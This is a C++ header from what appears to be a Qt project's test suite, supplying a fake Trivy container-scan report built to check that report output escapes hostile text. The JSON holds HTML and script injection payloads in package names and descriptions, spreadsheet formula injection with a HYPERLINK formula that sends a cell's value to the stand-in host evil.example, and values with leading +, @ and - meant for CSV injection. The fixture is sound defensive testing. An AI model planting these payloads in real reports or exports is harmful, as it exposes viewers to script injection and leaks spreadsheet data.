// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

// A report for tst_reports. (moc cannot read a multi-line raw string inside a macro call:
// hence QByteArray(), not QByteArrayLiteral().)

#include <QByteArray>

// A Trivy report whose texts try markup, formula injection and control characters.
inline QByteArray hostileTrivy()
{
    return QByteArray(R"json({"SchemaVersion":2,"CreatedAt":"2026-11-20T00:00:00Z",
"ArtifactName":"registry.example/hostile:1.0","ArtifactType":"container_image",
"Metadata":{"ImageID":"sha256:00000000000000000000000000000000000000000000000000000000000000ee",
"RepoTags":["registry.example/hostile:1.0"],"OS":{"Family":"debian","Name":"12.5"}},
"Results":[{"Target":"x (debian 12.5)","Class":"os-pkgs","Type":"debian","Vulnerabilities":[
{"VulnerabilityID":"CVE-2026-99901","PkgName":"<b>bold</b><img src=x onerror=alert(1)>",
"InstalledVersion":"1.0","FixedVersion":"1.1","Status":"fixed","Severity":"CRITICAL",
"VendorSeverity":{"debian":4},
"Title":"=HYPERLINK(\"http://evil.example/\",\"click\")",
"Description":"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click me\")\n<script>alert(1)</script>",
"CVSS":{"nvd":{"V3Vector":"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}}},
{"VulnerabilityID":"CVE-2026-99902","PkgName":"+plus-package","InstalledVersion":"@2.0",
"FixedVersion":"-3.0","Status":"fixed","Severity":"HIGH","VendorSeverity":{"debian":3},
"CVSS":{"nvd":{"V3Vector":"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}}}]}]})json");
}
